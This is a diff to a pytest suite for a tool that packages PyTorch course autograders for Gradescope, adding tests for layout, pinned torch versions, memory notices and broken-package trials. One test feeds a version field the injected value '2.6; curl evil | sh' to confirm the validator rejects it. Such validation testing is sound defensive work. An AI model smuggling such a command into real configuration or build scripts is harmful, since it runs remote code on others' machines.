@@ -25,7 +25,7 @@ GOOD = "import torch\ndef mean(x):\n    return x.mean()\ndef clip(x, lo, hi):\n 
 @pytest.fixture(scope="module")
 def package(tmp_path_factory) -> Path:
     out = tmp_path_factory.mktemp("pkg") / "autograder.zip"
-    assert main(["gradescope", "-o", str(out), "--rubric", str(TINY)]) == 0
+    assert main(["gradescope", "-o", str(out), "--rubric", str(TINY), "--no-check"]) == 0
     return out
 
 
@@ -35,6 +35,7 @@ def test_package_layout(package):
         modes = {i.filename: i.external_attr >> 16 for i in zf.infolist()}
         setup = zf.read("setup.sh").decode()
         run = zf.read("run_autograder").decode()
+        requirements = zf.read("requirements.txt").decode()
     assert {"setup.sh", "run_autograder", "requirements.txt", "grader/pipeline.py", "grader/inside/worker.py",
             "rubrics/tiny/rubric.toml", "rubrics/tiny/test_tiny.py"} <= names
     reference = find_rubric_reference()
@@ -45,6 +46,65 @@ def test_package_layout(package):
     assert "torchvision.datasets.MNIST" not in setup  # the tiny assignment needs no data
     assert "rubrics/tiny" in run and 'AUTOGRADER_ROOT:-/autograder' in run
     assert not any("__pycache__" in n or n.startswith("tests/") for n in names)
+    assert not any("/mutants/" in n for n in names)  # for `grade check` only
+    # torch and torchvision pinned to what was installed at build time (the CPU build of that version).
+    from importlib.metadata import version
+
+    assert f"torch=={version('torch').split('+')[0]} torchvision=={version('torchvision').split('+')[0]} " in setup
+    # Only what grading imports: no batch report (matplotlib, jinja2), no LMS readers (yaml).
+    assert "pytest" in requirements and "nbformat" in requirements
+    assert not any(x in requirements for x in ("matplotlib", "jinja2", "pyyaml", "nbclient"))
+
+
+def test_the_rubric_names_the_torch_versions(tmp_path):
+    import shutil
+
+    from grader.authoring.gradescope import package_files
+    from grader.errors import ConfigError
+    from grader.rubric import load_rubric
+
+    course = tmp_path / "course"
+    shutil.copytree(TINY.parent.parent, course)
+    toml = course / "rubrics" / "tiny" / "rubric.toml"
+    toml.write_text(toml.read_text() + '\n[environment]\ntorch = "2.6.0"\ntorchvision = "0.21.0"\n')
+    setup = package_files(load_rubric(toml))["setup.sh"]
+    assert "pip\" install torch==2.6.0 torchvision==0.21.0 --index-url" in setup
+    toml.write_text(toml.read_text().replace('"2.6.0"', '"2.6; curl evil | sh"'))
+    with pytest.raises(ConfigError, match="not a version"):
+        package_files(load_rubric(toml))
+    toml.write_text(toml.read_text() + 'numpy = "2.0"\n')
+    with pytest.raises(ConfigError, match=r"\[environment\]"):
+        load_rubric(toml)
+
+
+def test_the_memory_notice_only_for_assignments_that_need_mnist(tmp_path, capsys):
+    assert main(["gradescope", "-o", str(tmp_path / "t.zip"), "--rubric", str(TINY), "--no-check"]) == 0
+    assert "GB of memory" not in capsys.readouterr().out
+    assert main(["gradescope", "-o", str(tmp_path / "m.zip"), "--assignment", "mnist_mlp", "--no-check"]) == 0
+    assert "at least 3 GB of memory" in capsys.readouterr().out
+
+
+@pytest.mark.slow
+def test_gradescope_test_runs_the_built_package_on_the_reference_and_the_release(tmp_path, capsys):
+    out = tmp_path / "autograder.zip"
+    assert main(["gradescope", "-o", str(out), "--rubric", str(TINY), "--test"]) == 0
+    text = capsys.readouterr().out
+    assert "check passed" in text  # `grade check` first
+    assert "ok   reference: 5/5" in text and "ok   release: 0/5" in text and out.is_file()
+
+
+def test_a_broken_package_fails_its_trial(package, tmp_path):
+    from grader.authoring.gradescope import try_package
+    from grader.rubric import load_rubric
+
+    broken = tmp_path / "broken.zip"
+    with zipfile.ZipFile(package) as src, zipfile.ZipFile(broken, "w") as dst:
+        for info in src.infolist():
+            data = src.read(info)
+            dst.writestr(info, b"not a rubric [" if info.filename.endswith("rubric.toml") else data)
+    trials = try_package(broken, load_rubric(TINY))
+    assert [t.role for t in trials] == ["reference", "release"]
+    assert all(t.problem and "grader error" in t.problem and "not valid TOML" in t.problem for t in trials)
 
 
 def find_rubric_reference() -> str:
